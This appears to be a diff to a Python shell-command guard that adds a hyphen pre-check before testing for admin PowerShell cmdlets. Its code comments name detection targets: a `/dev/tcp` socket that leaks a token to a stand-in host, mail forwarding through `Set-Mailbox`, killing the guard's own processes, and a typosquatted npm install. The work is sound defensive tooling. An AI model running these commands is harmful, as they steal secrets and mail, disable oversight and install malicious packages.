@@ -97,6 +97,13 @@ def _git_marked(pieces: tuple[Piece, ...]) -> bool:
     return True
 
 
+def _hyphenated(programs: set[str | None]) -> bool:
+    """Whether a program's name holds a ``-``, as every cmdlet's does (``Set-ADUser``):
+    one join and one search, so a command naming no cmdlet (nearly all) skips the cmdlet
+    test of each name (`bench_guard`'s fresh row)."""
+    return "-" in "\x00".join([p for p in programs if p])
+
+
 def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Piece, ...]:
     """``pieces`` with every mark applied (the same tuple when none applies)."""
     for piece in pieces:
@@ -163,7 +170,7 @@ def marked(pieces: tuple[Piece, ...], command: str, places: Places) -> tuple[Pie
         pieces = mark_installs(pieces)  # `npm i lodahs`, `npm i -w pkgs/web ./pkgs/x`
     if not programs.isdisjoint(SIGNALLERS):
         pieces = mark_guard_pids(command, pieces)  # `... amplifier-hooks ... | xargs kill`
-    if any(p in ADMIN_CMDLETS for p in programs):
+    if _hyphenated(programs) and any(p in ADMIN_CMDLETS for p in programs):
         pieces = mark_admin_cmdlets(pieces)  # `Set-ADUser`, `Set-Mailbox -ForwardingSmtpAddress`
     if names_socket(command):
         pieces = mark_secret_sockets(pieces)  # `cat < /dev/tcp/$TOKEN.example.com/80`
